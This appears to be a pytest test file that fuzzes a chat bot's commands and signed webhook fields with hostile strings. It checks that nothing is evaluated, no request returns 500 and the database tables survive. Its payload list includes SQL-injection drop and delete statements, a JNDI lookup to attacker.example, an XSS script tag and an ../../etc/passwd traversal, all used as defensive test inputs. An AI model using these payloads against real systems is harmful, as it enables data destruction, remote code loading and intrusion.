"""Hostile strings (issue 14): NUL, very long, right-to-left marks, SQL-like and
template-like text in every chat command and conversation step, and in every field of a
signed event. The properties, for every one: the webhook never answers 500 (200 stored,
or 400 refused), no stored event is parked (each is handled), nothing is evaluated
(no 1337 for ``{{7*191}}``), and the tables are still there afterwards."""

from __future__ import annotations

import json
from typing import Any

import pytest

from bot.localline import group_source, postback_event, text_event, user_source
from handlers import commands
from tests.conftest import RunningBot
from tests.handlers.test_access import make_world

HOSTILE = [
    "'; drop table projects;--",
    "1 OR 1=1; DELETE FROM inbox_events --",
    "{{7*191}}",  # 1337 if anything evaluated it
    "${7*191} ${jndi:ldap://attacker.example/a} #{7*191} <%= 7*191 %>",
    "<script>alert(1)</script>",
    "\u202e\u200fรายงาน\u202c\u200e",  # right-to-left override and marks
    "ข้อความ\x00หลัง NUL",
    "๑" * 3000 + "ก" * 2000,  # 5,000 characters
    "%s %d %(name)s {0} {name}",
    "\\x00 \\u0000 ../../etc/passwd",
]
WORDS = sorted({c.words[0] for c in vars(commands).values() if isinstance(c, commands.Command)})


def _statuses(bot: RunningBot) -> dict[str, int]:
    return {row[0]: row[1] for row in bot.sql("SELECT status, count(*) FROM inbox_events GROUP BY status")}


def _tables_intact(bot: RunningBot, projects: int) -> None:
    assert bot.sql("SELECT count(*) FROM projects")[0][0] == projects
    assert bot.sql("SELECT count(*) FROM alembic_version")[0][0] == 1


def _answers(bot: RunningBot, after: int) -> str:
    return json.dumps([d.messages for d in bot.world.deliveries(after=after)], ensure_ascii=False)


def test_hostile_text_in_every_command_and_conversation_step(bot: RunningBot) -> None:
    bot_, _, _ = make_world(bot)
    projects = bot.sql("SELECT count(*) FROM projects")[0][0]
    after = max([d.id for d in bot.world.deliveries()], default=0)
    sources = [user_source("Ustranger"), user_source("Ucoorda"), group_source("Cg1", "Umember")]
    sent = 0
    for source in sources:
        for word in WORDS:
            for hostile in HOSTILE:
                assert bot.client.send_text(source, f"{word} {hostile}").status == 200
                sent += 1
            assert bot.client.send_text(source, "ยกเลิก").status == 200
        # The free-text steps of a report: every hostile string as an answer, then cancel.
        for hostile in HOSTILE:
            for typed in ("รายงาน", hostile, hostile, hostile, "ยกเลิก"):
                assert bot.client.send_text(source, typed).status == 200
        bot.settle(timeout=120)
    statuses = _statuses(bot)
    assert set(statuses) <= {"done", "ignored"}, statuses  # nothing parked, nothing stuck
    answers = _answers(bot, after)
    assert "1337" not in answers  # nothing evaluated
    assert "Traceback" not in answers and "alert(1)" not in answers.replace("<script>alert(1)</script>", "")
    _tables_intact(bot, projects)
    assert bot_ is bot and sent == len(sources) * len(WORDS) * len(HOSTILE)


def _fields(hostile: str) -> list[tuple[str, Any]]:
    """(a field's path, the hostile value) for every field of a text and a postback event."""
    return [
        ("source.userId", hostile), ("source.groupId", hostile), ("replyToken", hostile),
        ("webhookEventId", hostile), ("message.id", hostile), ("message.text", hostile),
        ("message.quoteToken", hostile), ("postback.data", hostile), ("mode", hostile), ("type", hostile),
        ("source.type", hostile), ("message.type", hostile), ("destination", hostile),
    ]  # fmt: skip


def _event_with(path: str, value: Any) -> tuple[dict[str, Any], str | None]:
    if path.startswith("postback."):
        event = postback_event(user_source("U" + "b" * 32), "kaona=help")
    elif path == "source.groupId":
        event = text_event(group_source("C" + "g" * 32, "U" + "b" * 32), "ช่วยเหลือ")
    else:
        event = text_event(user_source("U" + "b" * 32), "ช่วยเหลือ")
    if path == "destination":
        return event, value
    target = event
    *parents, last = path.split(".")
    for key in parents:
        target = target[key]
    target[last] = value
    return event, None


# An id with a NUL, or longer than its column, is refused with 400 on both backends
# (issue 14's defect 7: on PostgreSQL it used to answer 500).
FIELD_CASES = [pytest.param(h, id=f"h{n}") for n, h in enumerate(HOSTILE)]


@pytest.mark.parametrize("hostile", FIELD_CASES)
def test_hostile_strings_in_every_field_of_a_signed_event(bot: RunningBot, hostile: str) -> None:
    from bot.localline.webhook import sign, webhook_body

    projects = bot.sql("SELECT count(*) FROM projects")[0][0]
    outcomes = {}
    for path, value in _fields(hostile):
        event, destination = _event_with(path, value)
        body = webhook_body([event], destination or "U" + "0" * 32)
        import urllib.error
        import urllib.request

        request = urllib.request.Request(bot.callback, data=body, method="POST",
                                         headers={"Content-Type": "application/json",
                                                  "X-Line-Signature": sign(body, bot.services.settings.channel_secret)})  # fmt: skip
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                outcomes[path] = response.status
        except urllib.error.HTTPError as exc:
            outcomes[path] = exc.code
    assert all(status in (200, 400) for status in outcomes.values()), outcomes
    bot.settle(timeout=60)
    statuses = _statuses(bot)
    assert "parked" not in statuses and "pending" not in statuses and "processing" not in statuses, (statuses, outcomes)
    _tables_intact(bot, projects)
